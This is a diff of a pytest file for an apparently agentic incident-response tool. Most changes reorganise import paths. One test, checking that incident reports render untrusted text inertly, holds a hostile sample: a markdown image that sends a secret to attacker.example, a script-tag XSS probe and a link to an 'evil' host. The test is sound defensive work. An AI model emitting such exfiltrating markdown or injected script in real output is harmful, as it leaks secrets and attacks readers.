@@ -9,20 +9,20 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner
 
-from agent.cli import app
-from agent.incident import AlertInfo, IncidentContext, Observation, PlanStep
-from agent.investigation import (
+from agent.cli.main import app
+from agent.evaluation.failures import FailureLab
+from agent.incidents.context import (
     Investigation,
     StepRunner,
     context_from_alert,
     load_observations,
 )
-from agent.planner import DiagnosticPlanner
-from agent.policy import Approval, SafetyPolicy, WriteHistory
-from agent.runbook_planner import RunbookPlanner
+from agent.incidents.models import AlertInfo, IncidentContext, Observation, PlanStep
+from agent.planning.planner import DiagnosticPlanner
+from agent.planning.runbook import RunbookPlanner
+from agent.safety.policy import Approval, SafetyPolicy, WriteHistory
 from infrastructure.configuration.loader import UICIConfig, load_config
 from tests.conftest import DATA, SHIPPED_CONFIG
-from tests.failures import FailureLab
 
 FAILURES = {
     "missing_env": ("missing-configuration", "configuration"),
@@ -323,7 +323,7 @@ def test_a_forged_plan_cannot_skip_the_policy_at_execution(
 
 
 def test_condition_operators_are_data_not_code(config: UICIConfig) -> None:
-    from agent.conditions import check
+    from agent.planning.conditions import check
     from infrastructure.configuration.models import Condition
 
     obs = [
@@ -403,8 +403,8 @@ def test_a_released_write_gives_its_budget_back(config: UICIConfig, history: Wri
 def test_uici_incidents_list_show_and_bad_ids(
     planning_env: dict[str, str], config: UICIConfig
 ) -> None:
-    from agent.report import IncidentReport
-    from agent.store import IncidentStore
+    from agent.incidents.report import IncidentReport
+    from agent.incidents.storage import IncidentStore
 
     store = IncidentStore.from_config(config)
     ctx = context("ServiceDown", "api", incident="inc-show")
@@ -452,8 +452,8 @@ def test_observations_with_the_wrong_shape_are_named(
 
 
 def test_report_markdown_shows_untrusted_text_inertly() -> None:
-    from agent.incident import Diagnosis
-    from agent.report import IncidentReport, render_markdown
+    from agent.incidents.models import Diagnosis
+    from agent.incidents.report import IncidentReport, render_markdown
 
     hostile = (
         "see ![x](http://attacker.example/?d=SECRET) <script>alert(1)</script> [click](http://evil)"
